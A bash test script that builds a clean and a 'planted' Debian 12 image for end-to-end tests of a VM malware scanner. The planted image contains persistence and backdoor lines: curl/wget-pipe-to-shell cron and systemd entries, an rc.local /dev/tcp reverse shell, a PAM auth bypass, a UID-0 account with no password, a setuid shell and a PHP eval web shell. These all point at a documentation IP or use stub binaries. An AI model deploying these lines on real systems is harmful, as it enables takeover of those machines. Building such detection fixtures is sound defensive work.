#!/bin/bash
# Build two small Debian 12 machines for the checks' end-to-end test:
# "clean", a stock tree, and "planted", the same tree with the payloads
# of published malicious images planted in it.  The stock tree is made
# from packages installed on this (Debian) host: their files as dpkg -L
# lists them and their dpkg database entries, so package integrity
# checks have a real database that matches the files.  Nothing here is
# live malware: the "miner" is /bin/true with strings appended, the
# keys are generated now, the AWS key is AWS's documented example.
#
# Usage: tests/make-planted.sh OUTDIR
#
# Writes OUTDIR/clean.raw (ext4, no partition table), OUTDIR/planted.qcow2
# (ext4 in qcow2), OUTDIR/planted.expect (what the checks must report:
# one "CATEGORY<TAB>MIN_SEVERITY<TAB>PATH<TAB>EVIDENCE_SUBSTRING<TAB>WHAT"
# line per planted item), OUTDIR/planted.ioc (an --ioc list) and
# OUTDIR/secrets.txt (secret strings that must never reach the
# database).

set -eu
export LC_ALL=C TZ=UTC
PATH=$PATH:/sbin:/usr/sbin

if [ "$#" -ne 1 ]; then
  echo "usage: $0 OUTDIR" >&2
  exit 2
fi
out=$1
mkdir -p "$out"
out=$(cd "$out" && pwd)
say () { echo "make-planted: $*" >&2; }

for t in dpkg-query tar mke2fs e2fsck qemu-img ssh-keygen setcap python3; do
  command -v "$t" > /dev/null || { say "$t not found"; exit 1; }
done

packages="base-files base-passwd bash coreutils dash libc6 libc-bin login
passwd sudo libpam-modules libpam-modules-bin libpam-runtime libpam0g
procps util-linux grep sed tar gzip findutils debianutils
init-system-helpers libselinux1 libpcre2-8-0 libacl1 libattr1 libcap2
libcap2-bin libaudit1 libaudit-common libcrypt1 libtinfo6 libmd0 libbsd0
ncurses-base adduser cron cron-daemon-common iputils-ping libgcc-s1
libzstd1 liblzma5 libsystemd0 libcap-ng0 libdb5.3 libsemanage2 libsepol2
libsemanage-common libprocps8 libncursesw6 libsmartcols1 libtirpc3
libtirpc-common libgssapi-krb5-2 libkrb5-3 libk5crypto3 libkrb5support0
libcom-err2 libkeyutils1 libssl3 libgcrypt20 libgpg-error0 liblz4-1"
present=
for p in $packages; do
  if [ "$(dpkg-query -W -f='${Status}' "$p" 2>/dev/null)" = \
       "install ok installed" ]; then
    present="$present $p"
  else
    say "host lacks package $p; the stock tree is built without it"
  fi
done

clean=$out/clean
planted=$out/planted
rm -rf "$clean" "$planted"
mkdir -p "$clean"
cd "$clean"

# Debian 12 is usr-merged: the top-level directories are symlinks.
mkdir -p usr/bin usr/sbin usr/lib usr/lib64
ln -s usr/bin bin
ln -s usr/sbin sbin
ln -s usr/lib lib
ln -s usr/lib64 lib64

# The packages' files, as the host has them.  Directories come first so
# their modes are kept; --keep-directory-symlink keeps the merged /bin.
# shellcheck disable=SC2086
for p in $present; do
  dpkg-query -L "$p" 2>/dev/null
done | while IFS= read -r f; do
  [ -e "$f" ] || [ -L "$f" ] || continue
  case $f in /bin|/sbin|/lib|/lib64|/usr/lib/x86_64-linux-gnu/gconv*) continue ;; esac
  printf '%s\n' "${f#/}"
done | sort -u > "$out/paths.txt"
tar -C / --no-recursion -cf - -T "$out/paths.txt" 2>/dev/null \
  | tar -C "$clean" --keep-directory-symlink -xpf -

# The dpkg database for exactly those packages.
mkdir -p var/lib/dpkg/info var/lib/dpkg/updates var/lib/dpkg/alternatives
echo "$present" | tr ' ' '\n' | sed '/^$/d' > "$out/pkgs.txt"
for p in $present; do
  for f in /var/lib/dpkg/info/"$p".* /var/lib/dpkg/info/"$p":*.*; do
    [ -f "$f" ] && cp -p "$f" var/lib/dpkg/info/
  done
done
python3 - "$out/pkgs.txt" > var/lib/dpkg/status <<'PY'
import sys
want = set(open(sys.argv[1]).read().split())
para = []
for block in open('/var/lib/dpkg/status', encoding='utf-8',
                  errors='surrogateescape').read().split('\n\n'):
    name = None
    for line in block.splitlines():
        if line.startswith('Package: '):
            name = line[9:].strip()
    if name in want:
        para.append(block.strip('\n'))
sys.stdout.write('\n\n'.join(para) + '\n')
PY

# What a Debian 12 cloud image has besides the packages: the PAM stacks
# pam-auth-update writes at install time,
mkdir -p etc/pam.d
for f in common-auth common-account common-password common-session \
         common-session-noninteractive; do
  [ -f "/etc/pam.d/$f" ] && cp -p "/etc/pam.d/$f" etc/pam.d/
done
# and the rest.
mkdir -p etc/ssh/sshd_config.d root home/admin/.ssh tmp var/tmp \
  var/spool/cron/crontabs etc/systemd/system/multi-user.target.wants \
  etc/sudoers.d var/log dev proc sys run
chmod 1777 tmp var/tmp
chmod 0700 root
# base-files brought /etc/os-release (a link to ../usr/lib/os-release).
[ -e etc/os-release ] || { say "base-files gave no /etc/os-release"; exit 1; }
echo vmscan-checks > etc/hostname
cat > etc/fstab <<'FS'
LABEL=vmscan-root / ext4 rw,discard,errors=remount-ro 0 1
FS
cat > etc/passwd <<'PW'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
games:x:5:60:games:/usr/games:/usr/sbin/nologin
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
lp:x:7:7:lp:/var/spool/lpd:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
news:x:9:9:news:/var/spool/news:/usr/sbin/nologin
uucp:x:10:10:uucp:/var/spool/uucp:/usr/sbin/nologin
proxy:x:13:13:proxy:/bin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
list:x:38:38:Mailing List Manager:/var/list:/usr/sbin/nologin
irc:x:39:39:ircd:/run/ircd:/usr/sbin/nologin
_apt:x:42:65534::/nonexistent:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
admin:x:1000:1000:Debian:/home/admin:/bin/bash
PW
awk -F: '{ printf "%s:%s:19700:0:99999:7:::\n", $1, ($1 == "root" || $1 == "admin") ? "*" : "*" }' \
  etc/passwd > etc/shadow
chmod 0640 etc/shadow
cat > etc/group <<'GR'
root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:admin
tty:x:5:
disk:x:6:
lp:x:7:
mail:x:8:
news:x:9:
uucp:x:10:
man:x:12:
proxy:x:13:
sudo:x:27:admin
www-data:x:33:
backup:x:34:
shadow:x:42:
utmp:x:43:
staff:x:50:
users:x:100:
nogroup:x:65534:
admin:x:1000:
GR
cat > etc/ssh/sshd_config <<'SSH'
Include /etc/ssh/sshd_config.d/*.conf
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding yes
PrintMotd no
AcceptEnv LANG LC_*
Subsystem	sftp	/usr/lib/openssh/sftp-server
SSH
printf 'PasswordAuthentication no\n' > etc/ssh/sshd_config.d/50-cloudimg.conf
cat > home/admin/.bashrc <<'RC'
# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
HISTFILESIZE=2000
shopt -s checkwinsize
if [ -x /usr/bin/dircolors ]; then
    eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
RC
cp home/admin/.bashrc root/.bashrc
printf '# ~/.profile\nif [ -n "$BASH_VERSION" ] && [ -f "$HOME/.bashrc" ]; then\n    . "$HOME/.bashrc"\nfi\n' \
  > home/admin/.profile
chown -R 1000:1000 home/admin
chmod 0700 home/admin/.ssh
: > home/admin/.ssh/authorized_keys
chown 1000:1000 home/admin/.ssh/authorized_keys
chmod 0600 home/admin/.ssh/authorized_keys

# ------------------------------------------------------------------
# The planted machine: the same tree plus what published malicious
# images carry.
cd "$out"
cp -a "$clean" "$planted"
cd "$planted"
expect=$out/planted.expect
: > "$expect"
plant () { printf '%s\t%s\t%s\t%s\t%s\n' "$@" >> "$expect"; }

wallet=4Bvmscan$(printf 'TestWa11etNotRea1DoNotSend%.0s' 1 2 3)TestWa11e
miner_dir=var/tmp/.X11-unix
mkdir -p "$miner_dir"
cp /bin/true "$miner_dir/kworker"
printf '\nxmrig/6.20.0 randomx stratum+tcp:// --donate-level %s\n' "$wallet" \
  >> "$miner_dir/kworker"
chmod 0755 "$miner_dir/kworker"
cat > "$miner_dir/config.json" <<JS
{
  "autosave": true,
  "donate-level": 1,
  "cpu": { "enabled": true, "max-threads-hint": 75 },
  "pools": [ { "url": "stratum+tcp://pool.example.net:3333",
               "user": "$wallet", "pass": "x", "keepalive": true } ]
}
JS
plant cryptominer high "/$miner_dir/config.json" "stratum+tcp://pool.example.net:3333" "miner config with pool and wallet"
plant masquerading high "/$miner_dir/kworker" "" "ELF named like a kernel thread in a hidden directory under /var/tmp"

printf 'SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.7/up.sh | sh\n' \
  > etc/cron.d/sysupdate
plant persistence high /etc/cron.d/sysupdate "curl -fsSL http://203.0.113.7/up.sh | sh" "cron job that downloads and runs a script"
printf '@reboot /%s/kworker -c /%s/config.json >/dev/null 2>&1\n' "$miner_dir" "$miner_dir" \
  > var/spool/cron/crontabs/root
chmod 0600 var/spool/cron/crontabs/root
plant persistence high /var/spool/cron/crontabs/root "kworker" "root crontab starts the miner at boot"

mkdir -p usr/local/bin
cp /bin/true usr/local/bin/dbus-helper
printf '\nstratum+tcp://pool.example.net:3333\n' >> usr/local/bin/dbus-helper
cat > etc/systemd/system/dbus-helper.service <<'UNIT'
[Unit]
Description=D-Bus helper
After=network-online.target

[Service]
ExecStart=/bin/sh -c 'curl -s http://203.0.113.7/k | bash; exec /usr/local/bin/dbus-helper'
Restart=always

[Install]
WantedBy=multi-user.target
UNIT
ln -s /etc/systemd/system/dbus-helper.service \
  etc/systemd/system/multi-user.target.wants/dbus-helper.service
plant persistence high /etc/systemd/system/dbus-helper.service "curl -s http://203.0.113.7/k | bash" "enabled systemd service that downloads and runs"

cat > etc/rc.local <<'RCL'
#!/bin/sh -e
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &
exit 0
RCL
chmod 0755 etc/rc.local
plant persistence high /etc/rc.local "/dev/tcp/203.0.113.7/4444" "reverse shell in rc.local"

printf 'wget -q -O- http://203.0.113.7/p | sh >/dev/null 2>&1 &\n' > etc/profile.d/locale-fix.sh
plant persistence high /etc/profile.d/locale-fix.sh "wget -q -O- http://203.0.113.7/p | sh" "login script downloads and runs"

lib=usr/lib/x86_64-linux-gnu
cp "$lib/libmd.so.0" "$lib/libns2.so"
printf '\nreaddir\n' >> "$lib/libns2.so"
echo "/$lib/libns2.so" > etc/ld.so.preload
plant persistence high /etc/ld.so.preload "/$lib/libns2.so" "library preloaded into every process"

cp "$lib/security/pam_permit.so" "$lib/security/pam_sys.so"
sed -i '1i auth sufficient pam_sys.so' etc/pam.d/common-auth
plant persistence high "/$lib/security/pam_sys.so" "" "PAM module no package owns"

printf 'sysadm:x:0:0::/root:/bin/bash\n' >> etc/passwd
printf 'sysadm::19700:0:99999:7:::\n' >> etc/shadow
plant access critical "" "sysadm" "second account with UID 0"

printf 'backup ALL=(ALL) NOPASSWD: ALL\n' > etc/sudoers.d/90-backup
chmod 0440 etc/sudoers.d/90-backup
plant access high /etc/sudoers.d/90-backup "NOPASSWD" "password-less sudo for all commands"

ssh-keygen -q -t ed25519 -N '' -C 'attacker@203.0.113.7' -f "$out/attacker" 
mkdir -p root/.ssh
chmod 0700 root/.ssh
cp "$out/attacker.pub" root/.ssh/authorized_keys
fp=$(ssh-keygen -lf "$out/attacker.pub" | awk '{print $2}')
plant access high /root/.ssh/authorized_keys "$fp" "extra SSH key for root"
cat "$out/attacker.pub" >> home/admin/.ssh/authorized_keys
plant access medium /home/admin/.ssh/authorized_keys "$fp" "SSH key baked into a published image"

printf 'PermitRootLogin yes\nPasswordAuthentication yes\n' > etc/ssh/sshd_config.d/00-access.conf
plant access medium /etc/ssh/sshd_config.d/00-access.conf "PermitRootLogin yes" "root may log in with a password"

mkdir -p home/admin/.aws
akid=AKIAIOSFODNN7EXAMPLE
secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' \
  "$akid" "$secret" > home/admin/.aws/credentials
plant secret high /home/admin/.aws/credentials "" "AWS access key left in the image"
ssh-keygen -q -t ed25519 -N '' -C 'deploy' -f home/admin/.ssh/id_ed25519
plant secret high /home/admin/.ssh/id_ed25519 "" "unencrypted SSH private key left in the image"
token=ghp_vmscanTestTokenNotReal0123456789abcd
printf 'ls\ngit clone https://admin:%s@github.com/example/app\n' "$token" \
  > home/admin/.bash_history
plant secret medium /home/admin/.bash_history "" "token in a shell history"
chown -R 1000:1000 home/admin
printf '%s\n%s\n%s\n' "$secret" "$token" \
  "$(sed -n 2p home/admin/.ssh/id_ed25519)" > "$out/secrets.txt"

cp bin/bash var/tmp/.bash
chmod 4755 var/tmp/.bash
plant permissions critical /var/tmp/.bash "" "setuid shell in /var/tmp"
cp /bin/true usr/local/bin/pyhelper
setcap cap_setuid=ep usr/local/bin/pyhelper
plant permissions high /usr/local/bin/pyhelper "cap_setuid" "capability to change UID on an unpackaged file"

cp /bin/true tmp/invoice.pdf
chmod 0755 tmp/invoice.pdf
plant masquerading high /tmp/invoice.pdf "" "executable with a document's extension"

printf '\n# patched\n' >> usr/bin/id
plant package high /usr/bin/id "" "packaged binary that differs from the package"
cp /bin/true usr/bin/systemd-journal-helper
plant package medium /usr/bin/systemd-journal-helper "" "executable in /usr/bin that no package owns"

mkdir -p var/www/html/uploads
printf '<?php @eval(base64_decode($_POST["c"])); ?>\n' > var/www/html/uploads/img.php
plant malware high /var/www/html/uploads/img.php "" "PHP web shell"

sha=$(sha256sum "$miner_dir/kworker" | awk '{print $1}')
printf '# test feed\nsha256:%s miner-kworker\npath:/var/tmp/**/config.json miner-config\n' \
  "$sha" > "$out/planted.ioc"
plant ioc high "/$miner_dir/kworker" "$sha" "IOC list hash"
plant ioc high "/$miner_dir/config.json" "/var/tmp/**/config.json" "IOC list path pattern"

# ------------------------------------------------------------------
cd "$out"
mkfs () {
  size=$(( $(du -sm "$1" | cut -f1) * 14 / 10 + 64 ))
  rm -f "$2"
  truncate -s "${size}M" "$2"
  mke2fs -q -F -t ext4 -L vmscan-root -d "$1" "$2"
  e2fsck -fn "$2" > /dev/null
}
say "making the clean filesystem"
mkfs "$clean" "$out/clean.raw"
say "making the planted filesystem"
mkfs "$planted" "$out/planted.raw"
qemu-img convert -f raw -O qcow2 "$out/planted.raw" "$out/planted.qcow2"
rm -f "$out/planted.raw"
say "done: $(wc -l < "$expect") planted items"
